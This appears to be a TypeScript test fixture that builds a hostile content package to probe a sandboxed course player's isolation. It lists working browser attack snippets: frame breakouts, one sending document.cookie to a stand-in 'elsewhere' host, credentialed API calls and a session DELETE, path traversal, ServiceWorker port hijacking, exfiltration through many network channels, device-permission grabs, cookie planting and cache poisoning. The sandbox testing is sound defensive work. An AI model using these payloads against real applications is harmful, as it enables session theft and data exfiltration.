import type { TestPackage } from './package-kit';

/*
 * A package that tries to get at everything that is not its own. Each attempt says `nothing`, or what it got; what goes out
 * to the network is also heard by the server at `elsewhere`.
 */

/** Name → body of an async function; what it returns it got, what throws or is undefined got nothing. */
const TRIES: Readonly<Record<string, string>> = {
  'the DOM of the app': 'return top.document.title',
  'the address of the app': 'return top.location.href',
  'another address for the app': `try { top.location = elsewhere + '/top' } catch {} await wait(300); return undefined`,
  'another address for the player': `try { parent.location = elsewhere + '/parent?' + encodeURIComponent(document.cookie) } catch {} await wait(300); return undefined`,
  'another address for itself': `const frame = document.createElement('iframe'); frame.src = elsewhere + '/self'; document.body.append(frame); await wait(300); try { return frame.contentWindow.document ? undefined : 'there' } catch { return undefined }`,
  'the hub’s interface': `const answer = await fetch(app + '/api/hub', { credentials: 'include' }); return await answer.text()`,
  'the hub’s interface, blindly': `await fetch(app + '/api/session', { method: 'DELETE', mode: 'no-cors', credentials: 'include' }); return 'sent'`,
  'the dossier': `const answer = await fetch(app + '/db/', { credentials: 'include' }); return answer.status`,
  'the files of another kit': `const answer = await fetch(app + '/kit-files/introduction/1.0.0/pages/welcome.html'); return await answer.text()`,
  'the files of another kit, by its own worker': `for (const path of ['../old/imsmanifest.xml', '../../../pages/welcome.html', '..%2fold%2fimsmanifest.xml', '/play/x/index.html', '/kit-files/introduction/1.0.0/kit.json', 'kit.json']) { const answer = await fetch(path); if (answer.ok) return path } return undefined`,
  'a link to files, by the app’s own messages': `const linked = new Promise((resolve) => { addEventListener('message', ({ ports }) => ports.length && resolve('linked')); setTimeout(resolve, 1000) }); top.postMessage({ type: 'link' }, '*'); return (await linked) ?? undefined`,
  'the files of another kit, in the name of the player': `const script = parent.document.createElement('script'); script.src = location.pathname.replace(/[^/]*$/, 'act.js'); const got = new Promise((resolve) => { parent.gotten = resolve; setTimeout(resolve, 3500, 'never asked') }); parent.document.head.append(script); return await got`,
  'a page elsewhere by fetch': `return await (await fetch(elsewhere + '/fetch')).text()`,
  'a page elsewhere by fetch, blindly': `await fetch(elsewhere + '/no-cors', { mode: 'no-cors' }); return 'sent'`,
  'a page elsewhere by beacon': `navigator.sendBeacon(elsewhere + '/beacon', 'x'); await wait(200); return undefined`,
  'a page elsewhere by picture': `const image = new Image(); image.src = elsewhere + '/picture'; await wait(200); return image.naturalWidth || undefined`,
  'a page elsewhere by script': `const script = document.createElement('script'); script.src = elsewhere + '/script'; document.head.append(script); await wait(200); return undefined`,
  'a page elsewhere by style': `const style = document.createElement('style'); style.textContent = '@import url(' + elsewhere + '/style); body { background: url(' + elsewhere + '/background) }'; document.head.append(style); await wait(200); return undefined`,
  'a page elsewhere by form': `const form = document.createElement('form'); form.action = elsewhere + '/form'; form.method = 'post'; form.target = 'f'; const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame, form); form.submit(); await wait(300); return undefined`,
  'a page elsewhere by link': `const link = document.createElement('a'); link.href = elsewhere + '/link'; link.ping = elsewhere + '/ping'; link.target = '_blank'; document.body.append(link); link.click(); await wait(200); return undefined`,
  'a page elsewhere by hint': `for (const rel of ['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'preconnect', 'prerender']) { const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = elsewhere + '/' + rel; document.head.append(link) } await wait(300); return undefined`,
  'a socket': `return await new Promise((resolve) => { const socket = new WebSocket(elsewhere.replace('http', 'ws') + '/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve(undefined) })`,
  'a stream of events': `return await new Promise((resolve) => { const events = new EventSource(elsewhere + '/events'); events.onopen = () => resolve('open'); events.onerror = () => resolve(undefined) })`,
  'a page elsewhere by worker': `const code = 'fetch("' + elsewhere + '/worker").then(() => postMessage("sent"), () => postMessage("no"))'; return await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = ({ data }) => resolve(data === 'sent' ? data : undefined); worker.onerror = () => resolve(undefined); setTimeout(resolve, 2000) })`,
  'a page elsewhere by an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame); return await (await frame.contentWindow.fetch(elsewhere + '/empty-frame')).text()`,
  'a page elsewhere by a frame of its own making': `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="' + elsewhere + '/srcdoc">'; document.body.append(frame); await wait(300); return undefined`,
  'a window': `return window.open(elsewhere + '/window') ? 'open' : undefined`,
  'a window that is led elsewhere': `const pane = window.open(''); pane.location = elsewhere + '/led'; await wait(300); try { return pane.location.href.startsWith('about:') || pane.document ? undefined : 'there' } catch { return undefined } finally { try { pane.close() } catch {} }`,
  'a window whose page fetches': `const pane = window.open('', 'written'); pane.document.write('<img src="' + elsewhere + '/written"><script>fetch("' + elsewhere + '/written-fetch", { mode: "no-cors" })</' + 'script>'); await wait(300); const got = await pane.fetch(elsewhere + '/pane', { mode: 'no-cors' }).then(() => 'sent', () => undefined); pane.close(); return got`,
  'the camera': `const stream = await navigator.mediaDevices.getUserMedia({ video: true }); return stream.id`,
  'the microphone': `const stream = await navigator.mediaDevices.getUserMedia({ audio: true }); return stream.id`,
  'the place': `return await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('here'), () => resolve(undefined)))`,
  'the clipboard': `return await navigator.clipboard.readText()`,
  'cookies of the app': `return document.cookie || undefined`,
  'the session of the app, by a cookie of the same name': `for (const path of ['/', '/api', '/db', '/learn']) document.cookie = 'sandyq=stolen; Path=' + path; return undefined`,
  'what the app keeps in localStorage': `return localStorage.getItem('canary') ?? undefined`,
  'databases of the app': `const all = await indexedDB.databases(); return all.length > 0 ? JSON.stringify(all) : undefined`,
  'caches of the app': `const all = await caches.keys(); return all.length > 0 ? all.join() : undefined`,
  'a service worker of its own': `await navigator.serviceWorker.register('worker-of-mine.js', { scope: '/' }); return 'registered'`,
};

/** Runs in the player's page itself: takes the link that is meant for the service worker, and asks on it for what is not its own. */
const ACT = `
const send = ServiceWorker.prototype.postMessage;
ServiceWorker.prototype.postMessage = function (message, [port]) {
  ServiceWorker.prototype.postMessage = send;
  tryOn(port);
};
async function tryOn(port) {
  const ask = (asked) => new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(data);
    setTimeout(resolve, 2000, null);
    port.postMessage(asked, [port2]);
  });
  if ((await ask({ type: 'file', path: 'index.html' })) === null) return;
  const others = ['../old/imsmanifest.xml', 'old/imsmanifest.xml', 'packages/old/imsmanifest.xml', 'kit.json', 'after.html', '/api/hub', 'constructor', '__proto__'];
  for (const path of others) if ((await ask({ type: 'file', path })) !== null) return gotten(path);
  for (const path of ['../api/hub', '../../api/hub.js', 'toString.js', 'scorm-1.2', '']) if ((await ask({ type: 'runtime', path })) !== null) return gotten(path);
  if ((await ask('file')) !== null || (await ask(null)) !== null) return gotten('something');
  gotten();
}
top.postMessage({ type: 'link' }, '*');`;

export const ATTEMPTS: readonly string[] = Object.keys(TRIES);

export function hostilePackage(elsewhere: string): TestPackage {
  const tries = Object.entries(TRIES)
    .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
    .join(',\n');
  const script = `
const elsewhere = ${JSON.stringify(elsewhere)};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const app = location.ancestorOrigins[location.ancestorOrigins.length - 1];
const tries = { ${tries} };
(async () => {
  const left = [localStorage.getItem('mine'), sessionStorage.getItem('mine'), (await indexedDB.databases()).map(({ name }) => name).join(), (await caches.keys()).join(), document.cookie].filter(Boolean);
  document.getElementById('left').textContent = left.length === 0 ? 'nothing left' : left.join(' ');
  const said = {};
  for (const [name, go] of Object.entries(tries)) {
    const got = await Promise.race([go().catch(() => undefined), wait(4000)]).catch(() => undefined);
    said[name] = got === undefined ? 'nothing' : String(got).slice(0, 200);
  }
  document.getElementById('said').textContent = JSON.stringify(said);
  // What it leaves behind for the next one.
  try { localStorage.setItem('mine', '1'); sessionStorage.setItem('mine', '1'); document.cookie = 'mine=1; Path=/'; } catch {}
  await new Promise((resolve) => { const request = indexedDB.open('mine'); request.onsuccess = () => { request.result.close(); resolve() }; request.onerror = resolve });
  await caches.open('mine').then((cache) => cache.put('/stage', new Response('poison'))).catch(() => undefined);
  document.getElementById('done').textContent = 'done';
})();`;
  return {
    id: 'hostile',
    title: 'Hostile',
    files: {
      'index.html': `<!doctype html><title>Hostile</title><p id="done">trying</p><p id="left"></p><pre id="said"></pre>
<script>${script}</script>`,
      'act.js': ACT,
      'worker-of-mine.js': 'self.addEventListener("fetch", () => undefined)',
    },
  };
}
